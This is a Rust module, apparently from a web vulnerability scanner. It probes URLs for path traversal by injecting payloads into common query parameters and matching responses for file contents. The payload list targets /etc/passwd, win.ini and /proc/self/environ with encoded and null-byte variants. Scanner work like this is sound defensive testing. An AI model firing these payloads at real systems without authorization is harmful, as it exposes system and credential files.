//! Path-traversal prober (§4.6.3).

use std::sync::LazyLock;
use std::time::Duration;

use regex::Regex;
use url::Url;
use uuid::Uuid;
use webscan_core::{new_finding, Finding};

use crate::pacing::Paced;

const MAX_URLS: usize = 10;
const PACING_MS: u64 = 500;

const KEYWORDS: &[&str] = &["file", "path", "doc", "download", "image", "page", "template", "load"];
const PARAM_NAMES: &[&str] = &["file", "path", "page", "document", "load", "template", "src"];

const PAYLOADS: &[&str] = &[
    "../../../etc/passwd",
    "..\\..\\..\\windows\\win.ini",
    "%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd",
    "%252e%252e%252f%252e%252e%252f%252e%252e%252fetc%252fpasswd",
    "../../../etc/passwd%00",
    "/etc/passwd",
    "/proc/self/environ",
];

static ETC_PASSWD_LINE_RE: LazyLock<Regex> =
    LazyLock::new(|| Regex::new(r"root:.*:0:0:").unwrap());
static WINDOWS_INI_RE: LazyLock<Regex> = LazyLock::new(|| Regex::new(r"\[boot loader\]|\[fonts\]|\[extensions\]").unwrap());
static PROC_ENVIRON_RE: LazyLock<Regex> = LazyLock::new(|| Regex::new(r"[A-Z_]+=[^\x00\n]*\x00|PATH=/").unwrap());

fn is_candidate(url: &str) -> bool {
    let lower = url.to_lowercase();
    KEYWORDS.iter().any(|kw| lower.contains(kw))
}

fn indicates_success(body: &str) -> bool {
    ETC_PASSWD_LINE_RE.is_match(body) || WINDOWS_INI_RE.is_match(body) || PROC_ENVIRON_RE.is_match(body)
}

/// Injects each payload into each of the fixed parameter names for every
/// candidate URL, stopping at the first hit per URL.
pub async fn probe(scan_id: Uuid, client: &reqwest::Client, candidate_urls: &[String]) -> Vec<Finding> {
    let mut findings = Vec::new();
    let mut paced = Paced::new(PACING_MS);

    'urls: for url in candidate_urls.iter().filter(|u| is_candidate(u)).take(MAX_URLS) {
        let Ok(parsed) = Url::parse(url) else { continue };

        for param in PARAM_NAMES {
            for payload in PAYLOADS {
                paced.wait().await;
                let mut injected = parsed.clone();
                injected.query_pairs_mut().append_pair(param, payload);

                let Ok(resp) = client
                    .get(injected.as_str())
                    .timeout(Duration::from_secs(10))
                    .send()
                    .await
                else {
                    continue;
                };
                let Ok(body) = resp.text().await else { continue };

                if indicates_success(&body) {
                    if let Ok(finding) = new_finding(
                        scan_id,
                        "WSS-PATH-001",
                        url.to_string(),
                        format!("param={param} payload={payload:?} returned file contents"),
                        None,
                    ) {
                        findings.push(finding);
                    }
                    continue 'urls;
                }
            }
        }
    }

    findings
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn candidate_detection_by_keyword() {
        assert!(is_candidate("https://h/download?file=report.pdf"));
        assert!(is_candidate("https://h/view?page=about"));
        assert!(!is_candidate("https://h/users?id=5"));
    }

    #[test]
    fn etc_passwd_shape_is_detected() {
        assert!(indicates_success("root:x:0:0:root:/root:/bin/bash\nbin:x:1:1::"));
    }

    #[test]
    fn windows_ini_section_is_detected() {
        assert!(indicates_success("[boot loader]\ntimeout=30\ndefault=multi(0)disk(0)"));
    }

    #[test]
    fn normal_body_is_not_flagged() {
        assert!(!indicates_success("<html><body>404 not found</body></html>"));
    }
}
